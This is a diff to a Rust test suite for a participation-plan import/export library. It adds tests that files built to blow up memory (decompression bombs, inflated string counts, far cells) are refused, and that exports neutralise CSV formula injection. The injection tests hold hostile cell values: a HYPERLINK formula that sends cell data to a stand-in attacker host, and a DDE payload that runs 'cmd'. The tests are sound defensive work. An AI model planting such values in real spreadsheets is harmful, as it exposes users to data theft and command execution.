@@ -344,6 +344,7 @@ fn every_export_reads_back_equal() {
             &bytes,
             &ReadOptions {
                 entity: "Otra".into(),
+                ..Default::default()
             },
         )
         .unwrap_or_else(|e| panic!("{format}: {e}"));
@@ -663,6 +664,33 @@ mod generated {
             prop_assume!(!unmappable);
             let back = import_plan("g.txt", &bytes, &ReadOptions::default())
                 .map_err(|e| TestCaseError::fail(e.to_string()))?;
+            prop_assert_eq!(back, plan);
+        }
+
+        /// Issue 13, item 8: texts that start like formulas, or with the quote that
+        /// guards them, come back from the TSV as they were.
+        #[test]
+        fn tsv_round_trip_with_formula_like_texts(
+            plan in plan(),
+            heads in prop::collection::vec(
+                prop::sample::select(&["=", "+", "-", "@", "'", "''", "=-", "'=", "@@", "-'"][..]),
+                4,
+            ),
+        ) {
+            let mut d = plan.into_draft();
+            d.alignment.policy = format!("{}{}", heads[0], d.alignment.policy);
+            d.objectives[0] = format!("{}{}", heads[1], d.objectives[0]);
+            for (i, a) in d.activities.iter_mut().enumerate() {
+                a.deliverable = format!("{}{}", heads[(i + 2) % 4], a.deliverable);
+                a.description = format!("{}{}", heads[(i + 3) % 4], a.description);
+            }
+            for (i, s) in d.signatures.iter_mut().enumerate() {
+                s.name = format!("{}{}", heads[i % 4], s.name);
+            }
+            let plan = Plan::try_from_draft(d).unwrap();
+            let bytes = export_plan(&plan, ExportFormat::Tsv);
+            let back = import_plan("g.tsv", &bytes, &ReadOptions::default())
+                .map_err(|e| TestCaseError::fail(format!("{e}\n{}", String::from_utf8_lossy(&bytes))))?;
             prop_assert_eq!(back, plan);
         }
 
@@ -992,5 +1020,476 @@ mod coverage_of_the_seed {
         );
         assert!(text.contains("línea 4: canal: «satelital»"), "{text}");
         assert!(text.contains("línea 4: furag: «XX»"), "{text}");
+    }
+}
+
+mod bombs;
+
+mod import_bombs {
+    //! Issue 13, item 6: an import reads within bounds and refuses the first value past
+    //! them, naming its place; a file with thousands of errors lists the first 100.
+
+    use super::bombs::{seed_text_with, Workbook};
+    use super::*;
+
+    fn refused(name: &str, bytes: &[u8]) -> participa_formats::ImportErrors {
+        match import_plan(name, bytes, &ReadOptions::default()) {
+            Ok(plan) => panic!("{name} was imported: «{:.80}…»", plan.title),
+            Err(e) => e,
+        }
+    }
+
+    /// The one error of a file refused at a limit.
+    fn only_error(name: &str, bytes: &[u8]) -> (String, participa_formats::ImportError) {
+        let e = refused(name, bytes);
+        let shown = e.to_string();
+        assert!(shown.len() < 2_000, "a long report: {:.2000}", shown);
+        assert_eq!(e.errors.len(), 1, "{shown}");
+        (shown, e.errors[0].clone())
+    }
+
+    fn cell(row: u32, col: u32) -> Location {
+        Location::Cell {
+            sheet: "Plan".into(),
+            row,
+            col,
+        }
+    }
+
+    #[test]
+    fn the_seed_built_as_a_bare_workbook_imports_equal_to_the_tsv() {
+        // The builder the bombs below spoil makes a good workbook when unspoilt.
+        let plan = import_plan(
+            "plan.xlsx",
+            &Workbook::seed().xlsx(),
+            &ReadOptions::default(),
+        )
+        .unwrap_or_else(|e| panic!("{e}"));
+        assert_eq!(plan, seed());
+    }
+
+    #[test]
+    fn a_sheet_that_unzips_past_the_part_limit_is_refused_before_it_is_read() {
+        // 700 000 tiny rows: 18 MB of sheet XML in a few dozen KB of file.
+        let bytes = Workbook {
+            extra_rows: 700_000,
+            ..Workbook::seed()
+        }
+        .xlsx();
+        assert!(bytes.len() < 200_000, "{} bytes", bytes.len());
+        let (shown, e) = only_error("filas.xlsx", &bytes);
+        assert_eq!(e.location, Location::Document);
+        assert_eq!(e.field, "Archivo");
+        assert!(
+            e.message.starts_with("la parte «xl/worksheets/sheet1.xml» del libro ocupa 18 MB al descomprimirla, y se leen hasta 16 MB; es una hoja"),
+            "{shown}"
+        );
+        assert!(
+            shown.starts_with("filas.xlsx: no se importó nada; 1 error:"),
+            "{shown}"
+        );
+    }
+
+    #[test]
+    fn rows_past_the_row_limit_are_refused_at_the_first_one() {
+        let bytes = Workbook {
+            extra_rows: 6_000,
+            ..Workbook::seed()
+        }
+        .xlsx();
+        let (shown, e) = only_error("filas.xlsx", &bytes);
+        assert_eq!(e.location, cell(5_000, 0), "{shown}");
+        assert!(
+            shown.contains("filas.xlsx: hoja «Plan», celda A5001: Archivo: hay datos más allá de la fila 5\u{a0}000, la última que se lee"),
+            "{shown}"
+        );
+    }
+
+    #[test]
+    fn a_title_too_large_to_read_is_refused_before_it_is_read() {
+        // The review's file had a title of 150 MB and was imported; 20 MB is past the
+        // limit as well (the web test and the memory example send the 150 MB one).
+        let bytes = Workbook {
+            title_padding: 20_000_000,
+            ..Workbook::seed()
+        }
+        .xlsx();
+        assert!(bytes.len() < 200_000, "{} bytes", bytes.len());
+        let (shown, e) = only_error("titulo.xlsx", &bytes);
+        assert_eq!(e.location, Location::Document);
+        assert!(
+            e.message.starts_with("la parte «xl/sharedStrings.xml» del libro ocupa 20 MB al descomprimirla, y se leen hasta 8 MB; son los textos de las celdas"),
+            "{shown}"
+        );
+    }
+
+    #[test]
+    fn a_cell_past_the_character_limit_is_refused_with_its_cell_or_line_and_column() {
+        let bytes = Workbook {
+            title_padding: 10_000,
+            ..Workbook::seed()
+        }
+        .xlsx();
+        let (shown, e) = only_error("titulo.xlsx", &bytes);
+        assert_eq!(e.location, cell(8, 1), "{shown}");
+        assert!(
+            shown.contains("titulo.xlsx: hoja «Plan», celda B9: Archivo: la celda pasa de 10\u{a0}000 caracteres, el máximo por celda"),
+            "{shown}"
+        );
+        // The same in the text layout: line 9, the value's column.
+        let text = seed_text().replace(
+            "\tFormulación Plan de Participación Ciudadana 2025\n",
+            &format!(
+                "\tFormulación Plan de Participación Ciudadana {} 2025\n",
+                "x".repeat(10_000)
+            ),
+        );
+        let (shown, e) = only_error("titulo.txt", text.as_bytes());
+        assert_eq!(e.location, Location::Line(9), "{shown}");
+        assert!(
+            shown.contains(
+                "titulo.txt: línea 9: columna 2: la celda pasa de 10\u{a0}000 caracteres"
+            ),
+            "{shown}"
+        );
+        // 10 000 characters fit.
+        let fits = seed_text().replace(
+            "\tFormulación Plan de Participación Ciudadana 2025\n",
+            &format!(
+                "\tFormulación Plan de Participación Ciudadana {} 2025\n",
+                "x".repeat(9_900)
+            ),
+        );
+        let plan = import_plan("largo.txt", fits.as_bytes(), &ReadOptions::default())
+            .unwrap_or_else(|e| panic!("{e}"));
+        assert!(plan.title.contains(&"x".repeat(9_900)));
+    }
+
+    #[test]
+    fn a_shared_strings_count_that_would_reserve_gigabytes_is_refused() {
+        // Calamine reserves room for the announced count before reading a string: 50
+        // million is 1.2 GB of address space (far more aborts the process).
+        let bytes = Workbook {
+            unique_count: Some(50_000_000),
+            ..Workbook::seed()
+        }
+        .xlsx();
+        let (shown, e) = only_error("cuenta.xlsx", &bytes);
+        assert_eq!(e.location, Location::Document);
+        assert!(
+            e.message.contains(
+                "más de 300\u{a0}000 textos distintos (uniqueCount de xl/sharedStrings.xml)"
+            ),
+            "{shown}"
+        );
+        // Four trillion: today's reader asks for 96 TB and the process aborts.
+        let bytes = Workbook {
+            unique_count: Some(4_000_000_000_000),
+            ..Workbook::seed()
+        }
+        .xlsx();
+        let (shown, _) = only_error("cuenta.xlsx", &bytes);
+        assert!(shown.contains("uniqueCount"), "{shown}");
+    }
+
+    #[test]
+    fn a_package_of_too_many_parts_is_refused() {
+        let bytes = Workbook {
+            extra_parts: 1_000,
+            ..Workbook::seed()
+        }
+        .xlsx();
+        let (shown, e) = only_error("partes.xlsx", &bytes);
+        assert_eq!(e.location, Location::Document);
+        assert!(
+            e.message.starts_with("el libro tiene 1\u{a0}006 partes"),
+            "{shown}"
+        );
+    }
+
+    #[test]
+    fn styles_that_calamine_would_multiply_are_refused() {
+        // Calamine builds a record for each cell format and copies the font's name into
+        // it: 1.6 million empty formats, or a long name used by thousands of them.
+        let bytes = Workbook {
+            styles: 1_600_000,
+            ..Workbook::seed()
+        }
+        .xlsx();
+        let (shown, e) = only_error("estilos.xlsx", &bytes);
+        assert_eq!(e.location, Location::Document);
+        assert!(
+            e.message.starts_with("los estilos del libro («xl/styles.xml») tienen más de 50\u{a0}000 formatos, fuentes, rellenos y bordes"),
+            "{shown}"
+        );
+        let bytes = Workbook {
+            styles: 20_000,
+            font_name: 5_000,
+            ..Workbook::seed()
+        }
+        .xlsx();
+        let (shown, e) = only_error("fuentes.xlsx", &bytes);
+        assert!(
+            e.message
+                .contains("un nombre de fuente o un formato de número de más de 512 caracteres"),
+            "{shown}"
+        );
+        // A plain styles part, as spreadsheet programs write, is read.
+        let plan = import_plan(
+            "estilos.xlsx",
+            &Workbook {
+                styles: 300,
+                font_name: 7,
+                ..Workbook::seed()
+            }
+            .xlsx(),
+            &ReadOptions::default(),
+        )
+        .unwrap_or_else(|e| panic!("{e}"));
+        assert_eq!(plan, seed());
+    }
+
+    #[test]
+    fn a_value_in_a_far_cell_is_refused_with_its_cell() {
+        // Column BZ of an activity row: past the 60 columns.
+        let bytes = Workbook {
+            far_cell: Some("BZ30"),
+            ..Workbook::seed()
+        }
+        .xlsx();
+        let (shown, e) = only_error("lejos.xlsx", &bytes);
+        assert_eq!(e.location, cell(29, 77), "{shown}");
+        assert!(
+            e.message
+                .starts_with("hay datos más allá de la columna 60, la última que se lee"),
+            "{shown}"
+        );
+        // The last cell of a sheet: a grid of the whole sheet would be 17 billion cells
+        // (calamine's range asks for 550 GB and the process aborts).
+        let bytes = Workbook {
+            far_cell: Some("XFD1048576"),
+            ..Workbook::seed()
+        }
+        .xlsx();
+        let (shown, e) = only_error("lejos.xlsx", &bytes);
+        assert_eq!(e.location, cell(1_048_575, 16_383), "{shown}");
+        assert!(shown.contains("hoja «Plan», celda XFD1048576"), "{shown}");
+    }
+
+    #[test]
+    fn lines_past_the_row_limit_are_refused_at_the_first_one() {
+        let bytes = seed_text_with(6_000, "1\t2");
+        let (shown, e) = only_error("filas.txt", &bytes);
+        assert_eq!(e.location, Location::Line(5_001), "{shown}");
+        assert!(
+            shown.contains(
+                "filas.txt: línea 5001: Archivo: hay datos más allá de la línea 5\u{a0}000"
+            ),
+            "{shown}"
+        );
+        // Blank lines past it, as a spreadsheet exports its used range, are skipped.
+        let plan = import_plan(
+            "blancas.txt",
+            &seed_text_with(20_000, "\t\t \t"),
+            &ReadOptions::default(),
+        )
+        .unwrap_or_else(|e| panic!("{e}"));
+        assert_eq!(plan, seed());
+    }
+
+    #[test]
+    fn a_line_with_values_past_the_column_limit_is_refused_at_that_column() {
+        let line = format!("{}x", "\t".repeat(2_000_000));
+        let (shown, e) = only_error("columnas.txt", &seed_text_with(1, &line));
+        assert_eq!(e.location, Location::Line(47), "{shown}");
+        assert_eq!(e.field, "columna 2000001");
+        assert!(
+            e.message.starts_with("hay datos más allá de la columna 60"),
+            "{shown}"
+        );
+        // Blank cells past it are skipped.
+        let plan = import_plan(
+            "anchas.txt",
+            &seed_text_with(3, &"\t".repeat(100_000)),
+            &ReadOptions::default(),
+        )
+        .unwrap_or_else(|e| panic!("{e}"));
+        assert_eq!(plan, seed());
+    }
+
+    #[test]
+    fn a_text_file_past_the_text_limit_is_refused_where_it_passes() {
+        // 500 cells of 9 000 characters: each fits, together 4.5 MB.
+        let line = vec!["y".repeat(9_000); 5].join("\t");
+        let (shown, e) = only_error("texto.txt", &seed_text_with(100, &line));
+        assert_eq!(e.field, "columna 1", "{shown}");
+        assert!(
+            e.message
+                .starts_with("el texto del archivo pasa de 4 MB, el máximo que se lee"),
+            "{shown}"
+        );
+        assert!(
+            matches!(e.location, Location::Line(n) if n > 46 && n < 147),
+            "{shown}"
+        );
+    }
+
+    #[test]
+    fn a_file_past_the_size_limit_is_refused_before_it_is_read() {
+        let bytes = vec![b' '; 10 * 1024 * 1024 + 1];
+        let (shown, e) = only_error("grande.txt", &bytes);
+        assert_eq!(e.location, Location::Document);
+        assert!(
+            e.message
+                .starts_with("el archivo pasa de 10 MB, el máximo que se lee"),
+            "{shown}"
+        );
+    }
+
+    #[test]
+    fn thousands_of_bad_rows_list_the_first_100_and_count_the_rest() {
+        // After the signatures every line is a stray one: 4 000 errors.
+        let bytes = seed_text_with(4_000, "dato\tsuelto");
+        let e = refused("malo.txt", &bytes);
+        assert_eq!(e.errors.len(), 100);
+        let shown = e.to_string();
+        assert!(
+            shown.starts_with("malo.txt: no se importó nada; 4\u{a0}000 errores:"),
+            "{:.300}",
+            shown
+        );
+        assert!(
+            shown.ends_with("  y 3\u{a0}900 errores más\n"),
+            "{:.300}",
+            shown
+        );
+        assert!(shown.len() < 20_000, "{} bytes", shown.len());
+        // The listed ones are the first, in file order.
+        assert!(
+            shown.contains("malo.txt: línea 47: Firmas: fila no reconocida «dato | suelto»"),
+            "{:.600}",
+            shown
+        );
+        // A bad row past the limit quotes a short excerpt of its cell.
+        let long = seed_text_with(1, &"z".repeat(9_000));
+        let shown = refused("largo.txt", &long).to_string();
+        assert!(shown.len() < 1_000, "{} bytes: {:.300}", shown.len(), shown);
+    }
+}
+
+mod formula_injection {
+    //! Issue 13, item 8: the open-data CSV and TSV never start a cell the way a formula
+    //! starts, and the TSV still imports back to the same plan.
+
+    use super::*;
+    use participa_domain::{OfficeCode, Signature};
+    use participa_formats::formula_guard::{restore, TRIGGERS};
+
+    const HOSTILE: [&str; 6] = [
+        "=HYPERLINK(\"http://atacante.example/?d=\"&A1;\"Ver informe\")",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+57 300 000 0000",
+        "-3 informes trimestrales",
+        "'Informe' entre comillas simples",
+        "''dos comillas",
+    ];
+
+    /// The seed with a hostile text at the start of every free-text field.
+    fn hostile_plan() -> Plan {
+        let mut d = seed().into_draft();
+        d.entity = HOSTILE[0].into();
+        d.alignment.policy = HOSTILE[1].into();
+        d.objectives = vec![HOSTILE[3].into(), HOSTILE[4].into()];
+        d.legal_framework = participa_domain::LegalFramework::from_text(&format!(
+            "{} Ley 1757 de 2015",
+            HOSTILE[2]
+        ));
+        for (i, a) in d.activities.iter_mut().enumerate() {
+            a.description = HOSTILE[i % HOSTILE.len()].into();
+            a.deliverable = HOSTILE[(i + 1) % HOSTILE.len()].into();
+        }
+        let leader = d.offices[0].code.clone();
+        assert_eq!(leader, OfficeCode::parse("OAPLA").unwrap());
+        d.signatures = vec![Signature {
+            role: SignatureRole::Consolidated,
+            name: HOSTILE[0].into(),
+            position: HOSTILE[3].into(),
+        }];
+        Plan::try_from_draft(d).unwrap()
+    }
+
+    fn cells(bytes: &[u8], delimiter: u8) -> Vec<String> {
+        let mut r = csv::ReaderBuilder::new()
+            .delimiter(delimiter)
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(bytes);
+        r.records()
+            .flat_map(|rec| rec.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+            .collect()
+    }
+
+    #[test]
+    fn no_cell_of_the_open_data_csv_or_tsv_starts_like_a_formula() {
+        let plan = hostile_plan();
+        for (format, delimiter) in [(ExportFormat::Csv, b','), (ExportFormat::Tsv, b'\t')] {
+            let bytes = export_plan(&plan, format);
+            let cells = cells(&bytes, delimiter);
+            for c in &cells {
+                assert!(!c.starts_with(TRIGGERS), "{format}: cell {c:?}");
+            }
+            // Every hostile text is there: whole behind one quote, or inside a cell.
+            for h in HOSTILE {
+                assert!(
+                    cells.iter().any(|c| restore(c) == h || c.contains(h)),
+                    "{format}: {h:?} missing"
+                );
+            }
+            // Restoring gives the texts back.
+            assert!(cells.iter().any(|c| restore(c) == HOSTILE[0]), "{format}");
+        }
+    }
+
+    #[test]
+    fn a_tsv_export_with_formula_like_texts_imports_back_to_the_same_plan() {
+        let plan = hostile_plan();
+        let tsv = export_plan(&plan, ExportFormat::Tsv);
+        let back = import_plan("datos.tsv", &tsv, &ReadOptions::default())
+            .unwrap_or_else(|e| panic!("{e}\n{}", String::from_utf8_lossy(&tsv)));
+        assert_eq!(back, plan);
+        assert!(back.activities[0].description.starts_with("=HYPERLINK("));
+        assert_eq!(back.activities[2].deliverable, "-3 informes trimestrales");
+        assert_eq!(
+            back.activities[3].deliverable,
+            "'Informe' entre comillas simples"
+        );
+    }
+
+    #[test]
+    fn the_xlsx_export_writes_formula_like_texts_as_strings_and_reads_them_back() {
+        let plan = hostile_plan();
+        let bytes = export_plan(&plan, ExportFormat::Xlsx);
+        let parts = zip_entries(&bytes);
+        let sheet = &parts["xl/worksheets/sheet1.xml"];
+        assert!(
+            !sheet.contains("<f>") && !sheet.contains("<f "),
+            "a formula cell"
+        );
+        let strings = &parts["xl/sharedStrings.xml"];
+        assert!(
+            strings.contains("<t>=HYPERLINK(\"http://atacante.example/?d=\"&amp;A1;"),
+            "{strings:.2000}"
+        );
+        let back = import_plan("datos.xlsx", &bytes, &ReadOptions::default())
+            .unwrap_or_else(|e| panic!("{e}"));
+        assert_eq!(back, plan);
+    }
+
+    #[test]
+    fn a_hand_typed_apostrophe_before_ordinary_text_stays() {
+        let text = seed_text().replace("\tInstructivo y estrategia", "\t'90 días de instructivo");
+        let plan = import_plan("plan.txt", text.as_bytes(), &ReadOptions::default())
+            .unwrap_or_else(|e| panic!("{e}"));
+        assert_eq!(plan.activities[0].deliverable, "'90 días de instructivo");
     }
 }
